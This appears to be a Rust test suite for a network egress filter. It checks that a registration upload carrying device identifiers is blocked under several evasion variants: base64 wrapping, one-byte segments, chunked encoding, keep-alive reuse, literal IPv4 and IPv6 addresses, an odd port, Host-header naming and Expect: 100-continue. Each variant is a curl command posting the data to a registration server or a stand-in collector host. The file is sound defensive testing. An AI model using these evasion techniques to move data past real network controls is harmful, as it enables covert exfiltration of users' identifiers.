//! The founding leak in every dialect: blocked on the wire, and its harmless twin is not.

use std::net::SocketAddr;

use crate::capture::{Capture, concerning, dials, sent_to};
use crate::servers::{self, BASE, COLLECTOR, REGISTRATION, REGISTRATION6, WEB, WEB6};
use crate::world::{Way, World};
use crate::zzhc::{self, CONTENT_TYPE};

/// How much of a blocked exchange may be seen outside.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Trace {
    /// Not even a SYN.
    Nothing,
    /// The connection and the request before it, and nothing of the leak.
    EarlierRequest,
}

/// One way to send the registration.
struct Leak<'a> {
    /// The program.
    words: Vec<String>,
    /// What it reads from standard input.
    input: String,
    /// Where it arrives without Gasket.
    server: SocketAddr,
    /// Bytes that must not be seen outside.
    telltale: &'a str,
    /// What may be seen.
    trace: Trace,
}

/// curl posting `body` to `url` as the registration does.
fn post(url: &str, body: &str, more: &[&str]) -> Vec<String> {
    let words = [
        "curl",
        "-sS",
        "--fail",
        "-H",
        CONTENT_TYPE,
        "--data-binary",
        body,
    ];
    words
        .iter()
        .chain(more)
        .copied()
        .chain([url])
        .map(str::to_owned)
        .collect()
}

fn socket(address: &str, port: u16) -> SocketAddr {
    SocketAddr::new(address.parse().expect("an address"), port)
}

/// How often a run is done again whose server was dialled, without a byte to it. An app that says
/// nothing for half a second after it has connected is taken for one whose server speaks first; on a
/// machine that stalls, that may be any.
const STALLS_MAX: usize = 3;

/// Runs the leak straight, where it must arrive, and through Gasket, where it must not; then the
/// twin through Gasket, where it must arrive.
fn check(
    test: &str,
    leak: impl Fn(&str) -> Leak<'static>,
    twin: impl Fn(&str) -> (Vec<String>, String),
) {
    check_body(test, &zzhc::registration(), leak, twin);
}

fn check_body(
    test: &str,
    body: &str,
    leak: impl Fn(&str) -> Leak<'static>,
    twin: impl Fn(&str) -> (Vec<String>, String),
) {
    let Some(world) = World::open(test, &BASE) else {
        return;
    };
    servers::dns(&world);
    servers::web(&world);
    let capture = Capture::start(&world);
    let leak = leak(body);

    let straight = world.run_with(Way::Direct, &leak.words, leak.input.as_bytes());
    world.checked(Way::Direct, &leak.words, &straight);
    let arrived = sent_to(&capture.packets(), leak.server);
    assert!(
        arrived.iter().any(|bytes| contains(bytes, leak.telltale)),
        "control: the leak does not reach the server without Gasket: {:?}",
        arrived
            .iter()
            .map(|bytes| String::from_utf8_lossy(bytes))
            .collect::<Vec<_>>()
    );

    let mut stalls = 0;
    let (guarded, events) = loop {
        capture.clear();
        let guarded = world.run_with(Way::Gasket, &leak.words, leak.input.as_bytes());
        let packets = capture.packets();
        let events = world.events();
        let seen = packets
            .iter()
            .filter(|packet| contains(&packet.payload, leak.telltale));
        assert_eq!(
            seen.count(),
            0,
            "the leak got out: {packets:#?}\nevents: {events:#?}"
        );
        let seen = concerning(&packets, leak.server.ip());
        match leak.trace {
            Trace::Nothing if seen.is_empty() => break (guarded, events),
            Trace::Nothing => {
                let silent = seen.iter().all(|packet| packet.payload.is_empty());
                assert!(
                    silent && stalls < STALLS_MAX,
                    "outside saw {seen:#?}\nevents: {events:#?}"
                );
                stalls += 1;
            }
            Trace::EarlierRequest => {
                assert_eq!(dials(&packets, leak.server), 1, "{packets:#?}");
                break (guarded, events);
            }
        }
    };
    assert!(
        !guarded.status.success(),
        "the program noticed nothing: {guarded:?}"
    );
    let blocked = events.iter().find(|event| event["verdict"] == "block");
    let blocked = blocked.unwrap_or_else(|| panic!("no event tells of the block: {events:#?}"));
    assert_eq!(blocked["bytes_left"], 0, "{blocked:#}");
    assert_eq!(
        blocked["dialled"],
        leak.trace == Trace::EarlierRequest,
        "{blocked:#}"
    );
    assert!(
        !blocked["rules"].as_array().is_some_and(Vec::is_empty),
        "no rule is named: {blocked:#}"
    );

    let (words, input) = twin(&zzhc::harmless());
    let passed = world.run_with(Way::Gasket, &words, input.as_bytes());
    world.checked(Way::Gasket, &words, &passed);
    assert!(
        passed.text().contains("Success"),
        "the twin's answer is lost: {passed:?}"
    );
    let blocks = world
        .events()
        .into_iter()
        .filter(|event| event["verdict"] == "block");
    assert_eq!(
        blocks.count(),
        0,
        "the twin was blocked: {:#?}",
        world.events()
    );
}

fn contains(bytes: &[u8], text: &str) -> bool {
    bytes
        .windows(text.len())
        .any(|window| window == text.as_bytes())
}

/// The twin of most: a document without identifiers, to another host, by curl.
fn harmless_post(body: &str) -> (Vec<String>, String) {
    (post("http://collector.example/", body, &[]), String::new())
}

fn by_curl(words: Vec<String>, server: SocketAddr) -> Leak<'static> {
    Leak {
        words,
        input: String::new(),
        server,
        telltale: "application/encrypted-json",
        trace: Trace::Nothing,
    }
}

#[test]
fn leak_to_the_registration_server_by_name() {
    check(
        "leak_to_the_registration_server_by_name",
        |body| {
            by_curl(
                post("http://zzhc.vnet.cn/", body, &["-4"]),
                socket(REGISTRATION, 80),
            )
        },
        harmless_post,
    );
}

#[test]
fn leak_in_plain_json() {
    check(
        "leak_in_plain_json",
        |body| {
            by_curl(
                post("http://collector.example/", body, &[]),
                socket(COLLECTOR, 80),
            )
        },
        harmless_post,
    );
}

#[test]
fn leak_in_base64_wrapped_by_line_feeds() {
    check(
        "leak_in_base64_wrapped_by_line_feeds",
        |body| {
            let body = zzhc::wrapped_base64(body);
            by_curl(
                post("http://collector.example/", &body, &[]),
                socket(COLLECTOR, 80),
            )
        },
        |body| harmless_post(&zzhc::wrapped_base64(body)),
    );
}

#[test]
fn leak_in_segments_of_one_byte() {
    let drip = |body: &str| {
        let words = [World::PEER, "drip", "collector.example:80"]
            .map(str::to_owned)
            .to_vec();
        (
            words,
            zzhc::request("collector.example", &zzhc::wrapped_base64(body), false),
        )
    };
    check(
        "leak_in_segments_of_one_byte",
        move |body| dripped(drip(body)),
        drip,
    );
}

#[test]
fn leak_in_chunks_by_curl() {
    let chunked = ["-H", "Transfer-Encoding: chunked"];
    check(
        "leak_in_chunks_by_curl",
        |body| {
            let body = zzhc::wrapped_base64(body);
            by_curl(
                post("http://collector.example/", &body, &chunked),
                socket(COLLECTOR, 80),
            )
        },
        |body| {
            (
                post("http://collector.example/", body, &chunked),
                String::new(),
            )
        },
    );
}

#[test]
fn leak_in_chunks_of_seven_bytes_in_segments_of_one() {
    let drip = |body: &str| {
        let words = [World::PEER, "drip", "collector.example:80"]
            .map(str::to_owned)
            .to_vec();
        (
            words,
            zzhc::request("collector.example", &zzhc::wrapped_base64(body), true),
        )
    };
    check(
        "leak_in_chunks_of_seven_bytes_in_segments_of_one",
        move |body| dripped(drip(body)),
        drip,
    );
}

fn dripped((words, input): (Vec<String>, String)) -> Leak<'static> {
    // One byte a segment: no packet holds a word. The host's absence is what tells.
    Leak {
        words,
        input,
        server: socket(COLLECTOR, 80),
        telltale: "encrypted-json",
        trace: Trace::Nothing,
    }
}

#[test]
fn leak_as_second_request_of_a_kept_alive_connection() {
    let twice = |body: &str| {
        let url = "http://shop.example/hello.txt";
        let first = ["curl", "-sS", "-4", "--fail", url, "--next"].map(str::to_owned);
        let mut second = post("http://shop.example/register", body, &["-4"]);
        second.remove(0);
        first.into_iter().chain(second).collect::<Vec<_>>()
    };
    check(
        "leak_as_second_request_of_a_kept_alive_connection",
        |body| Leak {
            trace: Trace::EarlierRequest,
            ..by_curl(twice(&zzhc::wrapped_base64(body)), socket(WEB, 80))
        },
        |body| (twice(body), String::new()),
    );
}

#[test]
fn leak_to_a_literal_address() {
    check(
        "leak_to_a_literal_address",
        |body| {
            let body = zzhc::wrapped_base64(body);
            by_curl(
                post("http://42.99.2.15/", &body, &[]),
                socket(REGISTRATION, 80),
            )
        },
        |body| {
            (
                post(&format!("http://{COLLECTOR}/"), body, &[]),
                String::new(),
            )
        },
    );
}

#[test]
fn leak_to_port_9999() {
    check(
        "leak_to_port_9999",
        |body| {
            let body = zzhc::wrapped_base64(body);
            by_curl(
                post("http://collector.example:9999/", &body, &[]),
                socket(COLLECTOR, 9999),
            )
        },
        |body| {
            (
                post("http://collector.example:9999/", body, &[]),
                String::new(),
            )
        },
    );
}

#[test]
fn leak_over_ipv6() {
    check(
        "leak_over_ipv6",
        |body| {
            let body = zzhc::wrapped_base64(body);
            by_curl(
                post("http://six.example/", &body, &["-6"]),
                socket(WEB6, 80),
            )
        },
        |body| (post("http://six.example/", body, &["-6"]), String::new()),
    );
}

#[test]
fn leak_over_ipv6_to_a_literal_address_on_port_9999() {
    let url = format!("http://[{REGISTRATION6}]:9999/");
    check(
        "leak_over_ipv6_to_a_literal_address_on_port_9999",
        |body| {
            let body = zzhc::wrapped_base64(body);
            by_curl(post(&url, &body, &[]), socket(REGISTRATION6, 9999))
        },
        |body| {
            (
                post(&format!("http://[{WEB6}]:9999/"), body, &[]),
                String::new(),
            )
        },
    );
}

#[test]
fn leak_named_in_a_host_header_only() {
    let header = ["-H", "Host: zzhc.vnet.cn"];
    check_body(
        "leak_named_in_a_host_header_only",
        &zzhc::harmless(),
        |body| Leak {
            telltale: "Host: zzhc.vnet.cn",
            ..by_curl(
                post(&format!("http://{COLLECTOR}/"), body, &header),
                socket(COLLECTOR, 80),
            )
        },
        |body| {
            (
                post(&format!("http://{COLLECTOR}/"), body, &[]),
                String::new(),
            )
        },
    );
}

/// `Expect: 100-continue` sends the head alone first and waits: it is told to go on before anybody
/// is dialled, so that not even the head leaves.
#[test]
fn leak_after_expect_continue() {
    let expect = ["-H", "Expect: 100-continue", "--expect100-timeout", "20"];
    check(
        "leak_after_expect_continue",
        |body| {
            let body = zzhc::wrapped_base64(body);
            by_curl(
                post("http://collector.example/", &body, &expect),
                socket(COLLECTOR, 80),
            )
        },
        |body| {
            (
                post("http://collector.example/", body, &expect),
                String::new(),
            )
        },
    );
}
